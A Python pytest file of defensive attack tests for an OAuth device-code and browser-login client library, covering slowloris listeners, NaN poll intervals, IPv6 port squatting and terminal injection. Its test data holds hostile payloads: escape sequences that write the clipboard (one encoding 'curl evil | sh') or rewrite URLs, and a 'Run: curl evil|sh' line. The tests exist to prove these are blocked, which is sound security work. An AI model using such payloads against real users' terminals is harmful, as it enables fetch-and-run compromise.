"""Attacks on issue 8 (device code, browser + PKCE, discovery, revocation), end to end against
the embedded TokenServer and real sockets on 127.0.0.1. Each test names the attack it proves
harmless; the ones that still succeed are ``xfail(strict=True)`` with the reason for the lead."""

from __future__ import annotations

import itertools
import json
import socket
import threading
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import requests

from requests_silentauth import (
    AuthorizationCode,
    AuthorizationDenied,
    DeviceAuthorization,
    DeviceCode,
    InteractionRequired,
    LoginExpired,
    MemoryStore,
    SilentAuth,
    TokenEndpointError,
)
from requests_silentauth.testing import TokenServer

from .conftest import CLIENT_ID, CLIENT_SECRET, PUBLIC


def browser_auth(srv: TokenServer, open_browser: Callable[[str], object], **kw: Any) -> SilentAuth:
    grant = AuthorizationCode(
        PUBLIC,
        issuer=srv.issuer,
        open_browser=open_browser,
        login_timeout=kw.pop("login_timeout", 30.0),
    )
    return SilentAuth(grant, store=MemoryStore(), prompt=True, **kw)


def listener_port(url: str) -> int:
    redirect = parse_qs(urlsplit(url).query)["redirect_uri"][0]
    return int(urlsplit(redirect).port or 0)


# -- the loopback listener ------------------------------------------------------------------------


def test_a_trickling_connection_cannot_hold_the_login_past_its_deadline(idp: TokenServer) -> None:
    # Slowloris: a local process sends one byte of a request line every 0.1 s. Each read
    # arrives well within the socket timeout, so only a deadline for the whole connection ends
    # it; login_timeout must hold (every timeout is a deadline for the whole operation).
    capped = threading.Event()
    stop = threading.Event()
    threads: list[threading.Thread] = []

    def trickle(port: int) -> None:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
            began = time.monotonic()
            for byte in itertools.cycle(b"GET /?state=x"):
                if stop.wait(0.1):
                    return
                if time.monotonic() - began > 8.0:
                    capped.set()  # the listener still reads us: the login is held past its end
                    return
                try:
                    conn.send(bytes([byte]))
                except OSError:
                    return  # the listener hung up on us

    def open_browser(url: str) -> None:
        threads.append(threading.Thread(target=trickle, args=(listener_port(url),)))
        threads[-1].start()

    auth = browser_auth(idp, open_browser, login_timeout=0.5)
    try:
        with pytest.raises(LoginExpired):
            auth.get_token()
        assert not capped.is_set()
        assert not loopback_threads()
    finally:
        stop.set()
        for t in threads:
            t.join(10)


def test_an_idle_connection_does_not_keep_the_browser_waiting(
    idp: TokenServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Browsers open spare connections that send nothing (Chrome's preconnect; the reason
    # http.server became threaded, bpo-31639). The listener served one connection at a time
    # and read the idle one first, so the browser's redirect waited until it timed out.
    from requests_silentauth import _loopback

    monkeypatch.setattr(_loopback._Handler, "LONGEST", 30.0)
    outcome: list[object] = []
    threads: list[threading.Thread] = []

    def open_browser(url: str) -> None:
        spare = socket.create_connection(("127.0.0.1", listener_port(url)), timeout=5)

        def browse() -> None:
            try:
                outcome.append(requests.get(url, timeout=3).status_code)
            except requests.RequestException as exc:
                outcome.append(type(exc).__name__)
            finally:
                spare.close()

        threads.append(threading.Thread(target=browse))
        threads[-1].start()

    auth = browser_auth(idp, open_browser)
    auth.get_token()
    assert not loopback_threads()  # the listener left no connection open behind it
    for t in threads:
        t.join(10)
    assert outcome == [200]


def loopback_threads() -> list[threading.Thread]:
    return [t for t in threading.enumerate() if t.name == "silentauth-loopback"]


# -- a hostile device endpoint -------------------------------------------------------------------


class HostileIdP:
    """A device authorization endpoint answering ``device_answer`` (raw JSON text: Python's json
    module reads ``NaN`` and ``Infinity``), and a token endpoint answering
    ``authorization_pending`` to every poll, until ``MAX_POLLS`` (then ``access_denied``, so
    that a client that never stops still ends the test)."""

    MAX_POLLS = 200

    def __init__(self, device_answer: str, poll_answer: str | None = None) -> None:
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        idp = self
        self.polls = 0

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                if self.path == "/device":
                    status, body = 200, device_answer
                else:
                    idp.polls += 1
                    error = (
                        "authorization_pending" if idp.polls < idp.MAX_POLLS else "access_denied"
                    )
                    status, body = 400, poll_answer or json.dumps({"error": error})
                data = body.encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, args=(0.05,), daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(5)


def device_answer(**fields: str) -> str:
    base = {
        "device_code": '"dc-1"',
        "user_code": '"WDJB-MJHT"',
        "verification_uri": '"https://id.example.com/device"',
        "expires_in": "1",
        "interval": "1",
    }
    base.update(fields)
    return "{" + ", ".join(f'"{k}": {v}' for k, v in base.items()) + "}"


@pytest.mark.parametrize("field", ["interval", "expires_in"])
def test_a_nan_in_the_device_answer_is_refused_not_polled_forever(field: str) -> None:
    # json.loads accepts NaN. An interval of NaN slept 0 s and never reached the deadline
    # (every comparison with NaN is false): a tight loop of polls for ever. An expires_in of
    # NaN polled for ever too.
    hostile = HostileIdP(device_answer(**{field: "NaN"}))
    try:
        grant = DeviceCode(
            PUBLIC,
            device_authorization_url=hostile.url + "/device",
            token_url=hostile.url + "/token",
            show=lambda info: None,
        )
        auth = SilentAuth(grant, store=MemoryStore(), prompt=True, token_timeout=2)
        with pytest.raises(TokenEndpointError, match=field):
            auth.get_token()
        assert hostile.polls == 0
    finally:
        hostile.close()


def test_an_interval_of_zero_does_not_hammer_the_token_endpoint() -> None:
    # RFC 8628 allows any interval the server names; 0 meant a poll after every answer, as
    # fast as the loopback allows, until expires_in (up to an hour): thousands a second.
    hostile = HostileIdP(device_answer(interval="0", expires_in="2"))
    try:
        grant = DeviceCode(
            PUBLIC,
            device_authorization_url=hostile.url + "/device",
            token_url=hostile.url + "/token",
            show=lambda info: None,
        )
        auth = SilentAuth(grant, store=MemoryStore(), prompt=True, token_timeout=2)
        with pytest.raises(LoginExpired):
            auth.get_token()
        assert 1 <= hostile.polls <= 3  # the first at once, then one a second at most
    finally:
        hostile.close()


# -- terminal injection: server text printed on the user's terminal -------------------------------

ESC = "\x1b"


def hostile_device(device: str, poll: str | None = None) -> tuple[HostileIdP, SilentAuth]:
    hostile = HostileIdP(device, poll)
    grant = DeviceCode(
        PUBLIC,
        device_authorization_url=hostile.url + "/device",
        token_url=hostile.url + "/token",
    )  # the default show: printed to stderr
    return hostile, SilentAuth(grant, store=MemoryStore(), prompt=True, token_timeout=2)


@pytest.mark.parametrize(
    "field",
    [
        # OSC 52 writes the clipboard; CSI 2K + CR rewrites the line with another address.
        ("user_code", json.dumps("WDJB-MJHT" + ESC + "]52;c;Y3VybCBldmlsIHwgc2g=" + "\a")),
        (
            "verification_uri",
            json.dumps("https://id.example.com/device" + ESC + "[2K\rhttps://evil"),
        ),
        ("verification_uri_complete", json.dumps("https://id.example.com/d\n\nRun: curl evil|sh")),
    ],
    ids=["user_code", "verification_uri", "verification_uri_complete"],
)
def test_a_device_answer_with_control_characters_never_reaches_the_terminal(
    field: tuple[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    hostile, auth = hostile_device(device_answer(**{field[0]: field[1]}))
    try:
        with pytest.raises(TokenEndpointError, match=field[0]):
            auth.get_token()
        err = capsys.readouterr().err
        assert ESC not in err and "evil" not in err
        assert hostile.polls == 0
    finally:
        hostile.close()


def test_server_error_text_in_a_device_poll_cannot_drive_the_terminal() -> None:
    poll = json.dumps(
        {"error": "server_error" + ESC + "[2J", "error_description": ESC + "]52;c;ZXZpbA==\a boom"}
    )
    hostile, auth = hostile_device(device_answer(interval="0"), poll)
    try:
        with pytest.raises(TokenEndpointError) as info:
            auth.get_token()
        assert "boom" in str(info.value) and ESC not in str(info.value)
        assert "\a" not in str(info.value)
    finally:
        hostile.close()


def test_a_refusal_from_the_browser_cannot_drive_the_terminal(idp: TokenServer) -> None:
    # What the provider's redirect carries ends up in the exception the CLI prints.
    from urllib.parse import urlencode

    threads: list[threading.Thread] = []

    def provider_redirect(url: str) -> None:
        query = parse_qs(urlsplit(url).query)
        redirect, state = query["redirect_uri"][0], query["state"][0]
        refusal = {
            "error": "access_denied",
            "error_description": "no" + ESC + "[2K\r" + "x" * 5000,
            "state": state,
        }
        threads.append(
            threading.Thread(target=requests.get, args=(redirect + "?" + urlencode(refusal),))
        )
        threads[-1].start()

    with pytest.raises(AuthorizationDenied) as info:
        browser_auth(idp, provider_redirect).get_token()
    for t in threads:
        t.join(10)
    text = str(info.value)
    assert ESC not in text and "\r" not in text and len(text) < 600


# -- the ladder around an interaction ------------------------------------------------------------


class Approver:
    def __init__(self, srv: TokenServer) -> None:
        self.srv, self.shown = srv, 0

    def __call__(self, info: DeviceAuthorization) -> None:
        self.shown += 1
        self.srv.approve_device(info.user_code)


class FlakyAfterTheLogin(requests.adapters.HTTPAdapter):
    """The token session's transport: once a device poll has brought a token, the next refresh
    request fails like a network blip (the identity provider is flaky, not refusing)."""

    def __init__(self) -> None:
        super().__init__()
        self.logged_in = False

    def send(self, request: requests.PreparedRequest, *args: Any, **kwargs: Any) -> Any:
        raw = request.body
        body = raw if isinstance(raw, str) else raw.decode() if isinstance(raw, bytes) else ""
        if "grant_type=refresh_token" in body and self.logged_in:
            raise requests.ConnectionError("connection reset")
        response = super().send(request, *args, **kwargs)
        if "device_code" in body and "grant_type=" in body and response.status_code == 200:
            self.logged_in = True
        return response


def test_a_token_a_person_just_got_is_not_lost_to_a_refresh_of_the_dead_token(
    idp: TokenServer,
) -> None:
    # The refresh token is dead (invalid_grant), so the ladder goes to the login rung, which
    # lets the locks go and shows a device code. After the person approved, the ladder climbs
    # again and refreshed the same dead refresh token a second time before installing the new
    # token: a wasted request at best, and when that request failed (a blip), the token the
    # person had just obtained was thrown away with the error. design.md: "the login rung
    # installs it, unless the re-read store already holds a newer one".
    flaky = FlakyAfterTheLogin()
    tokens = requests.Session()
    tokens.mount("http://", flaky)
    show = Approver(idp)
    grant = DeviceCode(PUBLIC, issuer=idp.issuer, show=show)
    auth = SilentAuth(grant, store=MemoryStore(), prompt=True, token_session=tokens)
    first = auth.get_token()
    flaky.logged_in = False
    idp.revoke_all()  # the refresh token dies at the server
    s = requests.Session()
    s.auth = auth
    assert s.get(idp.resource_url, timeout=5).status_code == 200
    assert show.shown == 2 and auth.token is not None and auth.token != first
    assert idp.counts["token:refresh_token"] == 1  # the dead refresh token was tried once


def test_two_threads_needing_a_login_show_one_code(idp: TokenServer) -> None:
    # The interaction runs in the flight's leader, outside the locks: a second thread waits for
    # it (within its own timeout) and never shows a second code.
    release = threading.Event()
    show = Approver(idp)

    def slow_person(info: DeviceAuthorization) -> None:
        release.wait(5)  # the second thread arrives while the code is shown
        show(info)

    grant = DeviceCode(PUBLIC, issuer=idp.issuer, show=slow_person)
    auth = SilentAuth(grant, store=MemoryStore(), prompt=True, token_timeout=5)
    got: list[object] = []

    def use() -> None:
        try:
            got.append(auth.get_token().access_token)
        except Exception as exc:
            got.append(exc)

    threads = [threading.Thread(target=use) for _ in range(2)]
    for t in threads:
        t.start()
    for _ in range(500):  # both are in: one leads (showing), one follows
        if idp.counts["device_authorization"]:
            break
        time.sleep(0.01)
    release.set()
    for t in threads:
        t.join(10)
    assert show.shown == 1 and idp.counts["device_authorization"] == 1
    assert len(got) == 2 and got[0] == got[1]


def test_a_device_login_leaves_no_secret_in_logs_or_stderr(
    idp: TokenServer, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    import logging

    caplog.set_level(logging.DEBUG)
    device_codes: list[str] = []

    def person(info: DeviceAuthorization) -> None:
        device_codes.append(info.device_code)
        idp.approve_device(info.user_code)
        from requests_silentauth._interactive import default_show

        default_show(info)  # what a terminal shows

    auth = SilentAuth(
        DeviceCode(PUBLIC, issuer=idp.issuer, show=person), store=MemoryStore(), prompt=True
    )
    token = auth.get_token()
    auth.logout(revoke=True)
    seen = caplog.text + capsys.readouterr().err + repr(auth) + repr(auth.grant)
    for secret in (device_codes[0], token.access_token, token.refresh_token or "-"):
        assert secret not in seen


def test_prompt_false_with_an_issuer_touches_no_network(idp: TokenServer) -> None:
    # InteractionRequired comes before any request: not even the discovery document is read.
    grant = DeviceCode(PUBLIC, issuer=idp.issuer, show=Approver(idp))
    with pytest.raises(InteractionRequired, match="silentauth login"):
        SilentAuth(grant, store=MemoryStore(), prompt=False).get_token()
    assert sum(idp.counts.values()) == 0


def test_logout_with_revoke_against_a_silent_server_ends_within_token_timeout(
    idp: TokenServer,
) -> None:
    with socket.socket() as silent:  # accepts connections (the kernel does), answers nothing
        silent.bind(("127.0.0.1", 0))
        silent.listen(4)
        url = f"http://127.0.0.1:{silent.getsockname()[1]}/revoke"
        grant = DeviceCode(PUBLIC, issuer=idp.issuer, show=Approver(idp), revocation_url=url)
        auth = SilentAuth(grant, store=MemoryStore(), prompt=True, token_timeout=0.5)
        auth.get_token()
        assert auth.logout(revoke=True) == "failed"  # (the server never answers: a timeout)
        assert auth.store.get(auth.account, "token") is None


@pytest.mark.xfail(
    strict=True,
    reason="for the lead: an interaction does not watch the store. Two processes (or two auths "
    "over one store) that need a login at once each show a code; once the person approved one, "
    "the other keeps polling its own code until expires_in (minutes) and then fails with "
    "LoginExpired although a valid token is in the store. A fix: re-read the store between "
    "polls (and while the browser is awaited) and adopt a token stored meanwhile",
)
def test_a_login_another_process_finished_ends_the_wait(idp: TokenServer) -> None:
    idp.device_expires_in = 3
    store = MemoryStore()
    first_show = Approver(idp)
    second_shown: list[DeviceAuthorization] = []
    second_grant = DeviceCode(PUBLIC, issuer=idp.issuer, show=second_shown.append)
    second = SilentAuth(second_grant, store=store, prompt=True, token_timeout=5)
    outcome: list[object] = []

    def wait_for_a_person() -> None:
        try:
            outcome.append(second.get_token())
        except Exception as exc:
            outcome.append(exc)

    waiting = threading.Thread(target=wait_for_a_person)
    waiting.start()
    for _ in range(500):
        if second_shown:
            break
        time.sleep(0.01)
    first = SilentAuth(
        DeviceCode(PUBLIC, issuer=idp.issuer, show=first_show), store=store, prompt=True
    )
    token = first.get_token()  # the person approves this one only
    waiting.join(10)
    assert outcome == [token]


# -- the embedded TokenServer as a stand-in for real providers ----------------------------------


@pytest.mark.xfail(
    strict=True,
    reason="for the lead: TokenServer's revocation endpoint revokes any token for anyone (no "
    "client authentication, no check that the token was issued to the client asking); RFC 7009 "
    "§2.1 refuses both, as real providers do, so a client that revokes without authenticating "
    "passes against TokenServer and fails in production. tests/test_testing_server.py "
    "test_introspect_and_revoke_endpoints relies on the lax behaviour (revokes without auth)",
)
def test_the_embedded_server_revokes_only_for_the_client_the_token_was_issued_to(
    idp: TokenServer,
) -> None:
    grant = DeviceCode(PUBLIC, issuer=idp.issuer, show=Approver(idp))
    token = SilentAuth(grant, store=MemoryStore(), prompt=True).get_token()
    anyone = requests.post(idp.revoke_url, data={"token": token.refresh_token}, timeout=5)
    other = requests.post(
        idp.revoke_url,
        data={"token": token.refresh_token},
        auth=(CLIENT_ID, CLIENT_SECRET),
        timeout=5,
    )
    still = requests.post(
        idp.token_url,
        data={
            "grant_type": "refresh_token",
            "refresh_token": token.refresh_token,
            "client_id": PUBLIC,
        },
        timeout=5,
    )
    assert (anyone.status_code, other.status_code) != (200, 200)
    assert still.status_code == 200


def ipv6_loopback() -> bool:
    try:
        with socket.socket(socket.AF_INET6) as probe:
            probe.bind(("::1", 0))
        return True
    except OSError:
        return False


def browse_to_localhost(url: str, port: int) -> None:
    """Finish the login as a browser reaching localhost over IPv4 would (no name lookup)."""
    provider = requests.get(url, allow_redirects=False, timeout=5)
    back = provider.headers["Location"].replace("//localhost:", "//127.0.0.1:", 1)
    requests.get(back, headers={"Host": f"localhost:{port}"}, timeout=5)


@pytest.mark.skipif(not ipv6_loopback(), reason="no IPv6 loopback here")
def test_a_localhost_redirect_leaves_no_ipv6_port_for_another_process(idp: TokenServer) -> None:
    # A redirect_uri of http://localhost:PORT/ was listened on at 127.0.0.1 only; browsers try
    # ::1 first for localhost, and another local process listening on [::1]:PORT would get
    # the redirect (RFC 8252 §8.3). The listener now holds [::1]:PORT too.
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    squatted: list[bool] = []
    threads: list[threading.Thread] = []

    def open_browser(url: str) -> None:
        squatter = socket.socket(socket.AF_INET6)
        try:
            squatter.bind(("::1", port))
            squatter.listen(1)
            squatted.append(True)
        except OSError:
            squatted.append(False)
        finally:
            squatter.close()
        threads.append(threading.Thread(target=browse_to_localhost, args=(url, port)))
        threads[-1].start()

    grant = AuthorizationCode(
        PUBLIC,
        issuer=idp.issuer,
        open_browser=open_browser,
        redirect_uri=f"http://localhost:{port}/cb",
        login_timeout=10,
    )
    SilentAuth(grant, store=MemoryStore(), prompt=True).get_token()
    for t in threads:
        t.join(10)
    assert squatted == [False]


@pytest.mark.skipif(not ipv6_loopback(), reason="no IPv6 loopback here")
def test_a_localhost_redirect_whose_ipv6_port_is_taken_is_refused(idp: TokenServer) -> None:
    with socket.socket(socket.AF_INET6) as squatter:
        squatter.bind(("::1", 0))
        squatter.listen(1)
        port = squatter.getsockname()[1]
        opened: list[str] = []
        grant = AuthorizationCode(
            PUBLIC,
            issuer=idp.issuer,
            open_browser=opened.append,
            redirect_uri=f"http://localhost:{port}/cb",
        )
        try:
            with socket.socket() as v4:
                v4.bind(("127.0.0.1", port))  # (the IPv4 side of that port is free here)
        except OSError:
            pytest.skip("127.0.0.1 side of the port is taken too")
        with pytest.raises(ValueError, match=r"\[::1\] port .* 127\.0\.0\.1"):
            SilentAuth(grant, store=MemoryStore(), prompt=True).get_token()
        assert opened == []  # no browser was opened


# -- the CLI without a terminal -------------------------------------------------------------------


def test_the_fix_named_without_a_terminal_logs_in_where_the_profile_looks(
    idp: TokenServer, tmp_path: Any
) -> None:
    import os
    import subprocess
    import sys

    from requests_silentauth import _profiles

    env = dict(os.environ, SILENTAUTH_CONFIG=str(tmp_path / "profiles.toml"), NO_PROXY="*")
    store = tmp_path / "tokens.json"
    _profiles.save(
        "corp",
        {
            "grant": "device",
            "issuer": idp.issuer,
            "client_id": PUBLIC,
            "store": f"file:{store}",
        },
        path=tmp_path / "profiles.toml",
    )
    done = subprocess.run(
        [sys.executable, "-m", "requests_silentauth", "token", "--profile", "corp"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        check=False,
        stdin=subprocess.DEVNULL,
    )
    assert done.returncode != 0 and "silentauth login" in done.stderr
    assert idp.counts["device_authorization"] == 0  # nothing shown, nothing asked
    suggested = done.stderr.split("silentauth login", 1)[1]
    assert "--profile corp" in suggested or f"file:{store}" in suggested


def test_a_failed_interaction_carries_no_internal_exception_or_grant_in_its_chain(
    idp: TokenServer,
) -> None:
    # The interaction ran inside ``except InteractionNeeded``: every failure of it had that
    # internal signal as __context__ (a second traceback, "During handling of the above
    # exception...", printed to the user) holding the grant, client secret included, and the
    # token client. Errors are raised outside ``except`` blocks (design.md).
    from requests_silentauth._interaction import InteractionNeeded

    def deny(info: DeviceAuthorization) -> None:
        idp.deny_device(info.user_code)

    grant = DeviceCode(CLIENT_ID, issuer=idp.issuer, client_secret=CLIENT_SECRET, show=deny)
    with pytest.raises(AuthorizationDenied) as info:
        SilentAuth(grant, store=MemoryStore(), prompt=True).get_token()
    chain: list[BaseException] = []
    exc: BaseException | None = info.value
    while exc is not None and len(chain) < 10:
        chain.append(exc)
        exc = exc.__cause__ or exc.__context__
    assert not any(isinstance(e, InteractionNeeded) for e in chain)


def test_a_discovered_endpoint_with_control_characters_is_never_used_or_printed(
    idp: TokenServer, capsys: pytest.CaptureFixture[str]
) -> None:
    # The authorization URL is printed on the terminal (and handed to the browser); a document
    # could put an escape sequence in it (RFC 3986 has no room for one in a URL).
    idp.discovery_override = {
        "authorization_endpoint": idp.url + "/oauth/authorize" + ESC + "]52;c;ZXZpbA==\a"
    }
    grant = AuthorizationCode(PUBLIC, issuer=idp.issuer, open_browser=False, login_timeout=0.3)
    with pytest.raises(TokenEndpointError, match="authorization_endpoint"):
        SilentAuth(grant, store=MemoryStore(), prompt=True).get_token()
    assert ESC not in capsys.readouterr().err


def test_a_dead_refresh_token_is_not_presented_again_on_every_request(idp: TokenServer) -> None:
    idp.access_lifetime = 1  # due at once: every use renews
    store = MemoryStore()
    grant = DeviceCode(PUBLIC, issuer=idp.issuer, show=Approver(idp))
    token = SilentAuth(grant, store=store, prompt=True).get_token()
    idp.revoke_all()
    while time.time() < (token.expires_at or 0):  # (a slower machine only waits less)
        time.sleep(0.1)
    unattended = SilentAuth(grant, store=store, prompt=False)
    for _ in range(5):
        with pytest.raises(InteractionRequired):
            unattended.get_token()
    assert idp.counts["token:refresh_token"] == 1


def test_ctrl_c_while_the_browser_is_awaited_leaves_nothing_open(idp: TokenServer) -> None:
    import _thread

    ports: list[int] = []
    held: list[socket.socket] = []

    def open_browser(url: str) -> None:
        ports.append(listener_port(url))
        held.append(socket.create_connection(("127.0.0.1", ports[0]), timeout=5))  # idle

        def press_ctrl_c() -> None:
            for _ in range(500):  # once the listener serves the idle connection
                if loopback_threads():
                    break
                time.sleep(0.01)
            _thread.interrupt_main()

        threading.Thread(target=press_ctrl_c).start()

    try:
        with pytest.raises(KeyboardInterrupt):
            browser_auth(idp, open_browser).get_token()
        assert not loopback_threads()
        with pytest.raises(OSError):  # the port is closed
            socket.create_connection(("127.0.0.1", ports[0]), timeout=2).close()
        assert held[0].recv(1) == b""  # the idle connection was hung up on
    finally:
        for s in held:
            s.close()


# -- discovery --------------------------------------------------------------------------------


def test_a_discovery_document_that_never_ends_is_bounded_by_the_token_timeout() -> None:
    from requests_silentauth import PasswordGrant

    from .rawserver import RawServer

    def trickle(conn: socket.socket, server: RawServer) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n")
        conn.sendall(b'Transfer-Encoding: chunked\r\n\r\n2\r\n{"\r\n')
        while not server.stop.wait(0.05):
            conn.sendall(b"1\r\n \r\n")  # a byte at a time, for ever

    raw = RawServer(trickle, concurrent=True)
    try:
        grant = PasswordGrant(issuer=raw.origin, client_id=CLIENT_ID, client_secret=CLIENT_SECRET)
        auth = SilentAuth(
            grant, username="alice", password="pw-123456", store=MemoryStore(), token_timeout=0.5
        )
        with pytest.raises(TokenEndpointError, match="did not answer in time"):
            auth.get_token()
    finally:
        raw.close()
